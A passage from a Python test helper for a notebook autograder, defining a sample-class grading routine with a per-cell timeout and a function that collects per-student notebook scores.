        table[sub.student] = row
    return table


# --------------------------------------------------------------------------- the graded class

SMALL_COURSE = {"part_b/b1_forward.ipynb", "part_b/b2_backward.ipynb"}
TEST_TIMEOUT = 10  # seconds per cell: the infinite loop costs this once


def grade_sample_class(root, jobs=2, db_url=None, students=None):
    """Write the sample class into the scratch course `root` and grade it. Returns
    (subs, ClassGrades)."""
    from grader import grading

    subs = write_sample_class(root, students)
    grades = grading.grade_class(root, students=students, jobs=jobs, timeout=TEST_TIMEOUT,
                                 db_url=db_url, progress=lambda message: None, unsandboxed=not SANDBOXED)
    return subs, grades


def scores(grades):
    """{student: {notebook stem: score}} (a notebook not graded counts 0)."""
    return {s: {r.notebook: (r.score or 0.0) for r in rows} for s, rows in grades.items()}
